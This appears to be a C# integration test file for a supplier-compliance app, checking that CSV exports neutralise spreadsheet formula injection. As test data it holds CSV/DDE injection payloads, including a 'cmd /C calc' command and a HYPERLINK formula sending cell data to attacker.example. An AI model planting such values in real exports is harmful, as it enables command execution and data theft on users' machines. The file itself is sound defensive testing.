using Workflow.Cmrt.Model;
using Workflow.Cmrt.Reference;
using Workflow.Domain.Security;
using Workflow.Application.Exports;
using Workflow.IntegrationTests.Infrastructure;
using Workflow.IntegrationTests.Pages;
using Workflow.IntegrationTests.Reports;
using static Workflow.IntegrationTests.Reports.ReportWorkbooks;

namespace Workflow.IntegrationTests.Security;

/// <summary>
/// CSV exports carry text from supplier workbooks, imports and campaign names. A cell that a spreadsheet would run as
/// a formula (= + - @, tab, carriage return first) is written with a leading apostrophe in every CSV the service writes.
/// </summary>
public class CsvInjectionTests(SecurityApp fixture) : IClassFixture<SecurityApp>
{
    private readonly WorkflowApp _app = fixture.Workflow;

    private const string Command = "=cmd|' /C calc'!A0";
    private const string Hyperlink = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\")";

    [Theory]
    [InlineData("=1+1", "'=1+1")]
    [InlineData("+1+2", "'+1+2")]
    [InlineData("-2+3", "'-2+3")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("\t=1", "'\t=1")]
    [InlineData("\r=1", "\"'\r=1\"")]
    [InlineData("-3.5", "-3.5")]
    [InlineData("+12", "+12")]
    [InlineData("Acme, Inc.", "\"Acme, Inc.\"")]
    [InlineData("Tin = 5%", "Tin = 5%")]
    public void Field_NeutralisesFormulaStarts_AndLeavesPlainNumbersAndText(string value, string expected) =>
        Assert.Equal(expected, Csv.Field(value));

    [Fact]
    public async Task ReportAppendixNamesAndEscalationCsv_NeverStartACellWithAFormula()
    {
        var scenario = await ReportScenario.StartAsync(_app, Command, "Hostile Metals");
        await scenario.SubmitAsync("Hostile Metals", scenario.Spec("Hostile Metals").InScope("Yes", "No", Metal.Gold, Metal.Tin, Metal.Tungsten) with
        {
            Smelters =
            [
                NotListed(Metal.Gold, Hyperlink, "Germany"),
                NotListed(Metal.Tin, "@SUM(1+1)*cmd|' /C calc'!A0", "Germany"),
                NotListed(Metal.Tungsten, "\t=1+1", "Germany"),
            ],
        });
        var auditor = _app.ClientFor(WorkflowApp.AuditorKey);
        var browser = await PageClient.SignedInAsync(_app, Roles.Auditor);

        // Names off the reference list are listed for follow-up (Appendix A holds only recognised smelters): both files are checked.
        var appendix = Cells(await auditor.GetStringAsync($"/api/campaigns/{scenario.Campaign}/unrecognised-smelters.csv"))
            .Concat(Cells(await auditor.GetStringAsync($"/api/campaigns/{scenario.Campaign}/appendix-a.csv"))).ToList();
        var report = Cells(await auditor.GetStringAsync($"/api/campaigns/{scenario.Campaign}/report.csv"));
        var escalations = Cells(await browser.Http.GetStringAsync($"/escalations.csv?campaign={scenario.Campaign}"));

        Assert.Contains("'" + Hyperlink, appendix);
        Assert.Contains("'@SUM(1+1)*cmd|' /C calc'!A0", appendix);
        Assert.Contains("'=1+1", appendix); // the reader trims the leading tab; the formula start is still caught
        Assert.Contains("'" + Command, report);
        Assert.Contains("'" + Command, escalations);
        Assert.Contains("Hostile Metals", escalations);
        foreach (var cell in appendix.Concat(report).Concat(escalations))
            Assert.False(cell.Length > 0 && cell[0] is '=' or '+' or '@' or '\t' or '\r' || (cell.StartsWith('-') && !double.TryParse(cell, out _)),
                $"cell starts like a formula: {cell}");
    }

    private static List<string> Cells(string csv) => CsvTable.Parse(new StringReader(csv)).SelectMany(r => r).ToList();
}
